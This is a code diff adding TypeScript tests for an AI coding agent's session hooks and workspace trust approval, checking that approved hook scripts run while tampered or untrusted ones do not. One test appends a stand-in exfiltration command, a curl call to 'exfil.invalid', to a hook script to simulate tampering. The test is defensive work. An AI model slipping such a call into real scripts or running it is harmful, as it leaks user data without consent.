@@ -13,6 +13,9 @@ import {
 } from '../../src/agent/hooks/contract.ts';
 import { groupApplies, hookToolName, matcherMatches } from '../../src/agent/hooks/matcher.ts';
 import { createHookRunner } from '../../src/agent/hooks/runner.ts';
+import { createSessionHooks } from '../../src/agent/hooks/sessionHooks.ts';
+import type { Host } from '../../src/agent/host.ts';
+import { createTrustRoom } from '../../src/agent/trust/room.ts';
 import { fromHookInput, hookToolInput, withToolHooks } from '../../src/agent/hooks/toolHooks.ts';
 import { referencedFiles, workspaceHooksItem } from '../../src/agent/hooks/trustItem.ts';
 import { createNodeShell } from '../../src/agent/node/nodeShell.ts';
@@ -366,5 +369,74 @@ describe('hook runner and tool wrapper', () => {
     const r4 = (await asked.execute({ text: 'x' } as never, ctx)) as { error?: { code: string } };
     assert.equal(r4.error?.code, 'DENIED_BY_USER', 'ask goes to the user, who denied');
     assert.equal(withToolHooks(echoTool, deps(runnerFor({ Stop: [{ hooks: [cmd('true')] }] }))), echoTool);
+  });
+});
+
+describe('session hooks and the trust room', () => {
+  const setup = () => {
+    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-sess-')));
+    const home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-sess-home-')));
+    const env = { ...process.env, KEEL_HOME: path.join(home, '.keel') };
+    fs.mkdirSync(path.join(root, '.claude/hooks'), { recursive: true });
+    fs.writeFileSync(path.join(root, '.claude/hooks/x.sh'), 'touch "$CLAUDE_PROJECT_DIR/ran"\n');
+    fs.writeFileSync(
+      path.join(root, '.claude/settings.json'),
+      settings({ Stop: [{ hooks: [cmd('bash .claude/hooks/x.sh')] }] }),
+    );
+    const sessionFor = (workspaceTrusted: boolean, warnings: string[]) => {
+      const trust = createTrustRoom({ root, workspaceTrusted, env });
+      const host = {
+        workspace: { roots: [root] },
+        shell: createNodeShell(),
+        storage: {
+          readText: (f: string) => (fs.existsSync(f) ? fs.readFileSync(f, 'utf8') : undefined),
+        },
+      } as unknown as Host;
+      return {
+        trust,
+        hooks: createSessionHooks({
+          host,
+          trust,
+          sessionId: 's',
+          transcriptPath: path.join(root, 't.jsonl'),
+          resumed: false,
+          audit: () => {},
+          warn: (t) => warnings.push(t),
+          stopRun: () => {},
+          newId: () => 'id',
+          now: () => Date.now(),
+          env,
+          home,
+        }),
+      };
+    };
+    return { root, sessionFor, ran: () => fs.existsSync(path.join(root, 'ran')) };
+  };
+  const signal = new AbortController().signal;
+
+  test('approved workspace hooks run; a script edited mid-session does not, and the user is told once', async () => {
+    const { root, sessionFor, ran } = setup();
+    const warnings: string[] = [];
+    const first = sessionFor(true, warnings);
+    assert.equal(first.trust.pending()[0]?.kind, 'hooks');
+    first.trust.approve(first.trust.pending(), Date.now());
+    const { hooks } = sessionFor(true, warnings);
+    await hooks.beforeStop(signal);
+    assert.ok(ran(), 'the approved hook ran');
+    fs.rmSync(path.join(root, 'ran'));
+    fs.appendFileSync(path.join(root, '.claude/hooks/x.sh'), 'curl -s http://exfil.invalid\n');
+    await hooks.beforeStop(signal);
+    await hooks.beforeStop(signal);
+    assert.ok(!ran(), 'the edited script did not run');
+    assert.equal(warnings.filter((w) => /changed since you approved/.test(w)).length, 1);
+  });
+
+  test('an untrusted VS Code workspace never runs workspace hooks, approved or not', async () => {
+    const { sessionFor, ran } = setup();
+    const trusted = sessionFor(true, []);
+    trusted.trust.approve(trusted.trust.pending(), Date.now());
+    const { hooks } = sessionFor(false, []);
+    await hooks.beforeStop(signal);
+    assert.ok(!ran());
   });
 });
